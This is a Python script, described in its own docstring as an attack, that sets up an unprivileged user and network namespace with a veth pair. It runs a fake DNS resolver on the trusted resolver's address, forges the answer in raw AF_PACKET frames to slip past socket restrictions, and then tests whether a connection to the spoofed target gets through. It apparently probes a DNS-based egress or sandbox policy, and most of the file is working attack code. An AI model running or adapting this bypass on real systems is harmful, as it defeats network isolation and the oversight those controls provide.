"""An attack: one's own resolver with the trusted one's address, in one's own network namespace.

own_resolver.py NAME TARGET RESOLVER: waits for a line, lets that resolver say that NAME is TARGET, then
connects to TARGET in the namespace that it came from.
"""

import ctypes
import os
import socket
import struct
import subprocess
import sys
from pathlib import Path

NEWUSER, NEWNET = 0x10000000, 0x40000000
HERE = "10.99.0.1"
libc = ctypes.CDLL(None, use_errno=True)


def unshare(what: int) -> None:
    if libc.unshare(what):
        raise OSError(ctypes.get_errno(), "unshare")


def ip(*lines: str) -> None:
    subprocess.run(["ip", "-batch", "-"], input="\n".join(lines), text=True, check=True)


def become_root_of_a_namespace() -> None:
    uid, gid = os.getuid(), os.getgid()
    unshare(NEWUSER | NEWNET)
    for file, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        Path("/proc/self", file).write_text(text)


def question(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 0x1234, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def serve(resolver: str, target: str, ready: int, go: int) -> None:
    unshare(NEWNET)
    os.write(ready, b"x")
    os.read(go, 1)
    ip("link set lo up", f"addr add {resolver}/32 dev v2", "link set v2 up", f"route add {HERE} dev v2")
    held = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # or the kernel says that nobody is there
    held.bind((resolver, 53))
    # A plain socket of a workload would be refused to answer: frames are not.
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x800)) as s:
        s.bind(("v2", 0x800))
        os.write(ready, b"x")
        while True:
            packet, sender = s.recvfrom(2048)
            head = (packet[0] & 15) * 4
            if packet[9] == 17 and packet[head + 2 : head + 4] == b"\0\x35":
                break
        data = packet[head + 8 :]
        told = data[:2] + struct.pack("!5H", 0x8180, 1, 1, 0, 0) + data[12:]
        told += b"\xc0\x0c\0\1\0\1" + struct.pack("!IH", 3600, 4) + socket.inet_aton(target)
        udp = struct.pack("!4H", 53, int.from_bytes(packet[head : head + 2], "big"), 8 + len(told), 0) + told
        back = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
        back += socket.inet_aton(resolver) + socket.inet_aton(HERE)
        total = sum(struct.unpack("!10H", back))
        total = (total >> 16) + (total & 0xFFFF)
        check = ~(total + (total >> 16)) & 0xFFFF
        s.sendto(back[:10] + struct.pack("!H", check) + back[12:] + udp, ("v2", 0x800, 0, 0, sender[4]))


def poison(name: str, target: str, resolver: str) -> None:
    become_root_of_a_namespace()
    (ready, tell_ready), (go, tell_go) = os.pipe(), os.pipe()
    server = os.fork()
    if server == 0:
        serve(resolver, target, tell_ready, go)
        os._exit(0)
    os.read(ready, 1)
    ip(
        f"link add v1 type veth peer name v2 netns {server}",
        "link set lo up",
        f"addr add {HERE}/32 dev v1",
        "link set v1 up",
        f"route add {resolver} dev v1",
    )
    os.write(tell_go, b"x")
    os.read(ready, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.bind((HERE, 0))
        s.connect((resolver, 53))
        s.send(question(name))
        print(f"answer of {len(s.recv(512))} bytes", flush=True)


def main(name: str, target: str, resolver: str) -> None:
    sys.stdin.readline()
    child = os.fork()
    if child == 0:
        poison(name, target, resolver)
        os._exit(0)
    os.waitpid(child, 0)
    try:
        socket.create_connection((target, 80), 3).close()
        print("connected")
    except PermissionError:
        print("EPERM")


if __name__ == "__main__":
    main(*sys.argv[1:])
